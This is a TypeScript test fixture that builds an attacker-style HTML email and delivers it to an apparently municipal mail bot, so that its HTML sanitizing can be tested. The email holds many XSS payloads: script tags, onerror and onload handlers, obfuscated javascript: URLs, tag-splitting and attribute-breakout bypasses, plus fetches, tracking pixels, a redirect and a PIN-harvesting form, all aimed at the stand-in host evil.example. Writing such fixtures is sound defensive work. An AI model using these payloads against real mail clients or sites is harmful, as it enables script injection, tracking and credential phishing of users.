/**
 * Mails in HTML as attackers write them: everything in it tries to run, to load, or to lead the page away.
 *
 * @module
 */
import { Buffer } from "node:buffer";
import { receiveMail } from "../../lib/flows/receive_mail.ts";
import type { World } from "../../lib/flows/world.ts";

/** Where everything of it is loaded from and leads to. */
export const EVIL = "http://evil.example";

/** One document with all of it; what a reader should see is 「見える」 and 「下線」. */
export const HOSTILE_HTML = `<!doctype html><html><head><base href="${EVIL}/base/">
<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><link rel="stylesheet" href="${EVIL}/a.css">
<link rel="dns-prefetch" href="${EVIL}"><link rel="prefetch" href="${EVIL}/prefetch">
<style>@import "${EVIL}/b.css"; body { background: url(${EVIL}/c.png) }</style>
<style>.u { text-decoration: underline }</style>
<script>console.error("ran"); fetch("${EVIL}/fetch")</script><script src="${EVIL}/d.js"></script></head>
<body onload="console.error('load')" background="${EVIL}/e.png">
<p style="color: red" onclick="alert(1)">見える <span class="u">下線</span></p>
<p style="background: u&#114;l(${EVIL}/f.png)">一</p><p style="background: u\\72 l(${EVIL}/g.png)">二</p>
<img src="${EVIL}/h.png" alt="絵" onerror="alert(2)"><img srcset="${EVIL}/i.png 1x"><img src="x" onerror=alert(3)>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" alt="点">
<iframe src="${EVIL}/j"></iframe><iframe srcdoc="<script>alert(4)</script>"></iframe>
<object data="${EVIL}/k"></object><embed src="${EVIL}/l"><video src="${EVIL}/m" poster="${EVIL}/n.png" autoplay></video>
<form action="${EVIL}/form"><input name="pin" autofocus onfocus="alert(5)"><button>送る</button></form>
<svg onload="alert(6)"><image href="${EVIL}/o.png"/></svg><math><mtext><script>alert(7)</script></mtext></math>
<a href="javascript:alert(8)">罠</a><a href="java&#115;cript:alert(9)">罠</a><a href=" data:text/html,x">罠</a>
<a href="https://www.example.lg.jp/?a=1&b=2" ping="${EVIL}/ping" target="_top">正しい</a>
<scr<script>ipt>alert(10)</scr</script>ipt><p title='"><script>alert(11)</script>'>三</p>
</body></html>`;

/** What it says besides, long enough to speak for the mail. */
const PLAIN_WORDS = "文字だけの本文です。\n".repeat(30);

/** Takes a mail in that says `text` and, beside it, `html`. Resolves with its id. */
export async function receiveHtml(world: World, html: string, text = PLAIN_WORDS): Promise<string> {
  const part = (type: string, content: string) =>
    `--B\r\nContent-Type: text/${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n` +
    `${Buffer.from(content).toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n`;
  const raw = "From: evil@example.com\r\nTo: keiyaku@bot.example.lg.jp\r\nSubject: html\r\n" +
    "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=B\r\n\r\n" +
    `${part("plain", text)}${part("html", html)}--B--\r\n`;
  const known = new Set(await ids(world));
  const envelope = { from: "evil@example.com", to: ["keiyaku@bot.example.lg.jp"] };
  await receiveMail(world, { envelope, content: new Blob([raw]).stream() });
  return (await ids(world)).find((id) => !known.has(id))!;
}

const ids = async ({ store }: World): Promise<string[]> =>
  (await Array.fromAsync(store.list<{ id: string }>({ prefix: ["inbox"] }))).map(({ value }) => value.id);
